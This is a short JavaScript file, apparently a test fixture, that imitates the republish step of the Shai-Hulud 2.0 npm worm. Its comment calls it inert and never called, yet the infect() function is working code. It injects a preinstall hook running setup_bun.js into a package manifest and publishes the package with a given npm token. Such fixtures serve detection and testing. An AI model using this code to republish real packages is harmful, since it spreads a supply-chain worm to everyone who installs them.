/* eslint-disable */
// Inert imitation of Shai-Hulud 2.0's republish step (incidents.md section 4): the manifest gets
// `preinstall: node setup_bun.js` and is published with libnpmpublish. Never called.
const { publish } = require('libnpmpublish');

async function infect(manifest, tarball, token) {
  const patched = { ...manifest, scripts: { ...manifest.scripts, preinstall: 'node setup_bun.js' } };
  await publish(patched, tarball, { forceAuth: { token } });
}

module.exports = { infect };
